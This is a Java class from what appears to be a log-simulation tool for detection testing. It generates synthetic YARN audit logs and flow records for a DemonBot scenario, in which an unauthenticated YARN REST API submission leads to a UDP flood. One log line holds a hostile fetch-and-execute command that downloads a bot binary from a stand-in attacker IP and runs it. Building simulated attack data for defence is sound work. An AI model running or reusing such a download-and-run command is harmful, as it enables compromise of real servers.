package dev.cloudwarden.simulate.scenario;

import dev.cloudwarden.simulate.write.Formats;
import dev.cloudwarden.simulate.write.LogKind;
import dev.cloudwarden.simulate.write.LogLine;
import dev.cloudwarden.simulate.write.ScenarioInfo;

import java.time.Instant;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;

/**
 * M1 DemonBot: the unauthenticated YARN REST API (as user dr.who) takes an application from outside, which
 * downloads the bot; the node then floods one target with UDP.
 */
public final class DemonBotYarn implements Scenario {
    static final String ID = "m1-demonbot-yarn";
    private static final String ATTACKER = "203.0.113.120";
    private static final String VICTIM = "192.0.2.50";
    private static final String AM_LAUNCHER = "org.apache.hadoop.yarn.server.resourcemanager.amlauncher.AMLauncher";

    @Override
    public ScenarioInfo info() {
        return new ScenarioInfo(ID, "M1", "DemonBot through the unauthenticated YARN API, then a UDP flood",
                List.of("T1190", "T1498"));
    }

    @Override
    public void generate(Instant start, Random random, Consumer<LogLine> out) {
        Instant t = start.plusSeconds(1);
        String app = "application_1700000000000_" + (4000 + random.nextInt(999));
        out.accept(new LogLine(LogKind.YARN, t, Formats.yarnAudit(t, "INFO", "USER=dr.who\tIP=" + ATTACKER
                + "\tOPERATION=Get New Application ID\tTARGET=ClientRMService\tRESULT=SUCCESS"), ID));
        t = t.plusSeconds(1);
        out.accept(new LogLine(LogKind.YARN, t, Formats.yarnAudit(t, "INFO", "USER=dr.who\tIP=" + ATTACKER
                + "\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID=" + app
                + "\tQUEUENAME=default"), ID));
        String[] node = World.INSTANCES.get(3);
        // the ResourceManager starts the application's master container on a node: the bot runs there
        String attempt = app.replace("application_", "appattempt_") + "_000001";
        String container = app.replace("application_", "container_") + "_01_000001";
        String nodeName = Formats.ec2Hostname(node[1]) + ".ec2.internal";
        t = t.plusMillis(400 + random.nextInt(300));
        out.accept(new LogLine(LogKind.YARN, t, Formats.yarnLog(t, "INFO", AM_LAUNCHER, "Setting up container Container: [ContainerId: "
                + container + ", AllocationRequestId: -1, Version: 0, NodeId: " + nodeName + ":45454, NodeHttpAddress: "
                + nodeName + ":8042, Resource: <memory:1024, vCores:1>, Priority: 0, Token: Token { kind: ContainerToken, service: "
                + node[1] + ":45454 }, ExecutionType: GUARANTEED, ] for AM " + attempt), ID));
        t = t.plusMillis(6);
        out.accept(new LogLine(LogKind.YARN, t, Formats.yarnLog(t, "INFO", AM_LAUNCHER, "Command to launch container "
                + container + " : wget -q http://" + ATTACKER + "/bins/x86_64 -O /tmp/.dbus; chmod +x /tmp/.dbus; /tmp/.dbus "
                + "1><LOG_DIR>/AppMaster.stdout 2><LOG_DIR>/AppMaster.stderr "), ID));
        for (int i = 0; i < 5; i++) {
            Instant f = t.plusSeconds(90 + 60L * i);
            out.accept(new LogLine(LogKind.VPC_FLOW, f, Formats.flow(World.ACCOUNT, node[2], node[1], VICTIM,
                    30000 + random.nextInt(30000), 80, 17, 480_000 + random.nextInt(20_000), 680_000_000L, f, true), ID));
        }
    }
}
